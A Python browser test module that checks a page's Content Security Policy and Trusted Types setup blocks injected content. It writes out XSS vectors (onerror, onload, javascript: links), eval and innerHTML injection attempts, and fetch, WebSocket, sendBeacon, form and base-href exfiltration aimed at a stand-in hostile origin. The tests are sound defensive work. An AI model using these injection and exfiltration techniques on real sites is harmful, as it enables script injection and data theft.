"""The policy of the page in a real browser: markup and scripts that an agent could smuggle in load and run nothing."""

from __future__ import annotations

from browser.hostile_site import HostileSite
from browser.probe_site import ProbeSite
from browser.visitor import Visitors

INLINE = {
    "a script": "<script>window.ran = 'a script'</script>",
    "an event handler": """<img src="data:," onerror="window.ran = 'an event handler'">""",
    "a handler of a link": """<a href="#" onclick="window.ran = 'a handler of a link'">x</a>""",
    "a link that is a script": """<a href="javascript:window.ran = 'a link that is a script'">x</a>""",
    "a picture with a handler": """<svg onload="window.ran = 'a picture with a handler'"></svg>""",
    "a picture with a script": "<svg><script>window.ran = 'a picture with a script'</script></svg>",
}
"""By what it is, markup that runs a script of its own, at once or when its link is pressed."""

REMOTE = {
    "picture": '<img src="{}">',
    "picture-in-picture": '<svg><image href="{}" /></svg>',
    "style": '<link rel="stylesheet" href="{}">',
    "script": '<script src="{}"></script>',
    "film": '<video src="{}"></video>',
    "fetched-ahead": '<link rel="prefetch" href="{}">',
    "loaded-ahead": '<link rel="preload" as="image" href="{}">',
}
"""By what it is, markup that asks another server for something."""
EMBEDDING = '<iframe src="{}"></iframe><object data="{}"></object><embed src="{}">'
"""The same; of these a browser reports only the origin."""

SENDING = """
async (other) => {
  const settle = (promise) => promise.then(() => "sent", () => "refused");
  const answers = [
    await settle(fetch(other)),
    await settle(fetch(other, { method: "POST", mode: "no-cors", body: "x" })),
    await settle(new Promise((done, fail) => {
      const socket = new WebSocket(other.replace("http", "ws"));
      socket.onopen = done;
      socket.onerror = fail;
    })),
    await settle(new Promise((done, fail) => {
      const source = new EventSource(other);
      source.onopen = done;
      source.onerror = fail;
    })),
  ];
  navigator.sendBeacon(other, "x");
  const form = document.createElement("form");
  form.action = other;
  document.body.append(form);
  form.submit();
  const base = document.createElement("base");
  base.href = other;
  document.head.prepend(base);
  return [...answers, document.baseURI];
}
"""

EVALUATED = {
    "eval": "eval('window.ran = 1')",
    "a function": "new Function('window.ran = 1')()",
    "a timer": "setTimeout('window.ran = 1')",
    "innerHTML": "document.body.innerHTML = '<img src=data:, onerror=\"window.ran = 1\"><p>x</p>'",
    "outerHTML": "document.body.outerHTML = '<p>x</p>'",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', '<p>x</p>')",
    "document.write": "document.write('<p>x</p><script>window.ran = 1</script>')",
    "a parser": "new DOMParser().parseFromString('<p>x</p>', 'text/html')",
    "the text of a script": "document.createElement('script').text = 'window.ran = 1'",
    "the address of a script": "document.createElement('script').src = 'data:,window.ran=1'",
    "the document of a frame": "document.createElement('iframe').srcdoc = '<p>x</p>'",
    "a worker": "new Worker('/assets/probe.js')",
    "a service worker": "navigator.serviceWorker.register('/assets/probe.js')",
    "a policy of its own": "trustedTypes.createPolicy('evil', { createHTML: (text) => text })",
    "a default policy": "trustedTypes.createPolicy('default', { createHTML: (text) => text })",
}
"""By what it is, a script of the page itself that takes a text for a script or for markup."""
TRYING = """
addEventListener("load", async () => {
  const ended = {};
  for (const [what, attempt] of Object.entries({%s})) {
    ended[what] = await attempt().then(() => "no error", (error) => error.name);
  }
  window.ended = ended;
});
"""
POLICY_IN_CONSOLE = (
    r"(?i)^console: .*(content security policy|fetch API cannot load|requires '?trusted)"
)


async def test_no_inline_script_runs(probe: ProbeSite, visit: Visitors) -> None:
    visitor = await visit.arrive(probe)
    refused = r"^policy: script-src-(elem|attr) refused inline"
    visitor.complaints.allow(POLICY_IN_CONSOLE, refused)
    probe.put("".join(INLINE.values()))

    page = await visitor.open()
    for link in await page.locator("a").all():
        await link.click()

    await visitor.complaints.until(refused, count=len(INLINE))
    assert await page.evaluate("() => window.ran") is None


async def test_nothing_is_asked_of_another_server(
    probe: ProbeSite, visit: Visitors, hostile_site: HostileSite
) -> None:
    visitor = await visit.arrive(probe)
    other = hostile_site.origin
    visitor.complaints.allow(POLICY_IN_CONSOLE, r" csp$", r"^elsewhere: ")
    visitor.complaints.expect(
        *(rf"^policy: \S+ refused {other}/{what} " for what in REMOTE),
        *(rf"^policy: {kind}-src refused {other} " for kind in ("frame", "object")),
    )
    loading = "".join(markup.format(f"{other}/{what}") for what, markup in REMOTE.items())
    probe.put(loading + EMBEDDING.replace("{}", other))

    await visitor.open()

    await visitor.complaints.until(r"^policy: ", count=len(REMOTE) + 3)
    assert hostile_site.visits == []


async def test_scripts_of_the_page_cannot_send_anything_to_another_server(
    probe: ProbeSite, visit: Visitors, hostile_site: HostileSite
) -> None:
    visitor = await visit.arrive(probe)
    place = hostile_site.origin.removeprefix("http")
    refused = rf"^policy: (connect-src|form-action|base-uri) refused (http|ws){place}"
    visitor.complaints.allow(POLICY_IN_CONSOLE, refused, r" csp$", r"^elsewhere: ")
    page = await visitor.open()

    answers = await page.evaluate(SENDING, hostile_site.origin)

    assert answers == [*["refused"] * 4, f"{probe.origin}/"]
    await visitor.complaints.until(r"^policy: form-action ")
    await visitor.complaints.until(r"^policy: base-uri ")
    assert len(visitor.complaints.of(r"^policy: connect-src ")) == 5
    assert hostile_site.visits == []


async def test_markup_cannot_style_itself(probe: ProbeSite, visit: Visitors) -> None:
    visitor = await visit.arrive(probe)
    visitor.complaints.expect(r"^policy: style-src-attr ", r"^policy: style-src-elem ")
    visitor.complaints.allow(POLICY_IN_CONSOLE)
    probe.put('<p style="position: fixed">over everything</p><style>p { display: none }</style>')

    page = await visitor.open()
    style = await page.locator("p").evaluate(
        "(element) => [getComputedStyle(element).position, getComputedStyle(element).display]"
    )

    assert style == ["static", "block"]


async def test_no_text_becomes_a_script_or_markup(probe: ProbeSite, visit: Visitors) -> None:
    visitor = await visit.arrive(probe)
    refused = r"^policy: (script-src|require-trusted-types-for|trusted-types) "
    visitor.complaints.allow(POLICY_IN_CONSOLE, refused)
    attempts = (
        f'"{what}": async () => {{ await ({script}); }},' for what, script in EVALUATED.items()
    )
    probe.put(script=TRYING % "\n".join(attempts))

    page = await visitor.open()
    await page.wait_for_function("() => window.ended")
    ended = await page.evaluate("() => window.ended")

    assert {what for what, error in ended.items() if error not in ("TypeError", "EvalError")} == set()  # fmt: skip
    assert set(ended) == set(EVALUATED)
    await visitor.complaints.until(refused, count=len(EVALUATED))
    assert await page.evaluate("() => window.ran") is None
    assert await page.locator("p").count() == 0


async def test_the_page_has_the_two_policies_that_its_sanitiser_needs(
    probe: ProbeSite, visit: Visitors
) -> None:
    visitor = await visit.arrive(probe)
    probe.put(
        script="addEventListener('load', () => { for (const name of ['nightherd', 'dompurify']) {"
        " const policy = trustedTypes.createPolicy(name, { createHTML: (text) => text });"
        " document.body.append(document.createElement('p'));"
        " document.body.lastChild.innerHTML = policy.createHTML(`<b>${name}</b>`); } });"
    )

    page = await visitor.open()

    assert await page.locator("b").all_inner_texts() == ["nightherd", "dompurify"]
